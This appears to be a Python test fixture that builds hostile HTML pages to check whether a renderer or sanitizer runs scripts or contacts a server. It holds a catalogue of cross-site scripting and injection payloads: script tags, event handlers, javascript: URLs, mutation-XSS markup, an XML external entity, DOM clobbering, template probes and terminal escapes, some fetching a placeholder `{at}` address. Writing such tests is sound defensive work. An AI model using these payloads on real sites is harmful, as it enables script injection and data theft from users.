"""Pages that try to run something, or to reach a server, when they are shown. `{at}` is the server's address."""

from __future__ import annotations

RUN = "top.name='ran';window.name='ran';document.title='ran';fetch('{at}ran');alert(1)"
TEXT = "<p>The harbour master counted the boats at noon, and the town watched from the old stone pier.</p>" * 4

FORMS = {
    "script": "<script>RUN</script><script src={at}s.js></script><SCRIPT/x>RUN</SCRIPT >",
    "handlers": '<svg onload="RUN"><img src=x onerror="RUN"><body onload="RUN"><details open ontoggle="RUN">d</details>'
    '<input autofocus onfocus="RUN"><video><source onerror="RUN"></video><p onmouseover="RUN">hover here</p>',
    "urls": '<a href="javascript:RUN">a link</a><a href="java&#10;script:RUN">two</a><a href="data:text/html,<script>'
    'RUN</script>" target=_top>three</a><form action="javascript:RUN"><button formaction="{at}f">send</button></form>',
    "head": '<meta http-equiv=refresh content="0;url={at}refresh"><base href="{at}base/" target=_top>'
    '<link rel=stylesheet href="{at}l.css"><link rel=prefetch href="{at}p"><link rel=dns-prefetch href="{at}">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><script>RUN</script>",
    "objects": '<object data="{at}o"></object><embed src="{at}e"><iframe src="{at}i"></iframe><iframe srcdoc="<script>'
    'RUN</script>"></iframe><applet code="{at}a"></applet><portal src="{at}p"></portal><frameset><frame src="{at}f">',
    "styles": '<style>@import "{at}i.css";body{background:url({at}b)}*{display:none!important}</style>'
    '<p style="background:url({at}s);position:fixed;inset:0;z-index:99">over all</p>'
    '<div style="x:expression(RUN)">e</div>',
    "pictures": '<img src="{at}1.png" srcset="{at}2.png 2x" alt="&lt;script&gt;RUN&lt;/script&gt;"><picture><source '
    'srcset="{at}3"></picture><svg><image href="{at}4"/><use href="{at}5#x"/></svg><input type=image src="{at}6">',
    "end of the frame": "&lt;/iframe&gt;&lt;script&gt;RUN&lt;/script&gt;</iframe>' srcdoc='<script>RUN</script>' x=\"'>"
    '"><script>RUN</script>&quot;&#39;&gt;&lt;svg onload=RUN&gt;',
    "end of a tag": "<title></title><script>RUN</script></title><textarea></textarea><script>RUN</script></textarea>"
    "&lt;/title&gt;&lt;/style&gt;&lt;/script&gt;&lt;script&gt;RUN&lt;/script&gt;<!--><script>RUN</script>--!>",
    "mutations": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript><template><script>RUN</script>'
    '</template><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">'
    '<svg></p><style><a id="</style><img src=x onerror=RUN>"></svg><form><math><mtext></form><form><mglyph><style>'
    "</math><img src onerror=RUN></style></mglyph></form></mtext></math>",
    "xml": '<?xml version="1.0"?><?xml-stylesheet href="{at}x.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "{at}dtd">]>'
    "<p>&e;</p>"
    "<![CDATA[<script>RUN</script>]]><xml:script>RUN</xml:script>",
    "names": "<a id=frame name=removed>x</a><img name=getElementById><form name=body><input name=innerHTML></form>"
    "<p id=b1 class=n>clobber</p>",
    "templates": "{{ 7*7 }} {% raw %} ${7*7} {{ self.__init__.__globals__ }} <%= 7 %>",
    "numbers": "&#0;&#x1b;]0;owned&#7;&#x202e;drowssap&#x2066;&#xfffe;\x1b[31mred\x9b2J",
}
"""Names and fragments; RUN is a program that leaves traces."""


def fragment(name: str, address: str) -> str:
    """Return one of FORMS, with its program, for a server's address."""
    return FORMS[name].replace("RUN", RUN).replace("{at}", address)


def hostile_page(body: str, title: str = "Harbour") -> bytes:
    """Return an article's page with hostile content before and behind its text."""
    head = f'<title>{title}</title><meta name=author content="\'><script>{RUN}</script>">'
    return f"<!doctype html><html><head>{head}</head><body><h1>{title}</h1>{body}{TEXT}{body}</body></html>".encode()
